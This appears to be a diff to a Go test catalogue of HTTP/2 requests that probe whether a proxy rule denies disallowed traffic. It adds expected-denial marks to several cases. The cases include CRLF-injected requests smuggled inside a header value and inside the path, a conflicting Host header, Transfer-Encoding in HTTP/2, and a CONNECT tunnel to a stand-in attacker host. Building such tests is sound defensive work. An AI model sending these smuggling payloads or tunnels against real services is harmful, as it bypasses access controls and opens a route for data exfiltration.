@@ -57,18 +57,22 @@ func (c *catalogue) requests() {
 	token = c.token()
 	c.opened("http/h2-host", "another host beside :authority", HostHeader, "h2",
 		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/"+token, "host", other))
+	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-path", "a path that the rule does not name, in HTTP/2", OtherWay, "h2",
 		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/admin/"+token))
 	token = c.token()
 	c.opened("http/h2-crlf", "a header in HTTP/2 with a request inside", Smuggling, "h2",
 		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/x", "x", "y\r\n\r\nGET /admin/"+token+" HTTP/1.1\r\nhost: "+world.API))
+	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-path-crlf", "a path in HTTP/2 with a request inside", Smuggling, "h2",
 		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/x HTTP/1.1\r\nhost: h\r\n\r\nGET /admin/"+token))
+	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-transfer-encoding", "Transfer-Encoding in HTTP/2", Smuggling, "h2",
 		h2(":method", "POST", ":scheme", "https", ":authority", world.API, ":path", "/v1/x-"+token, "transfer-encoding", "chunked"))
+	c.last().proof = deniedOrEnded
 	token = c.token()
 	c.opened("http/h2-connect", "CONNECT in HTTP/2", Fronting, "h2", h2(":method", "CONNECT", ":authority", token+"."+world.Attacker+":443"))
 }
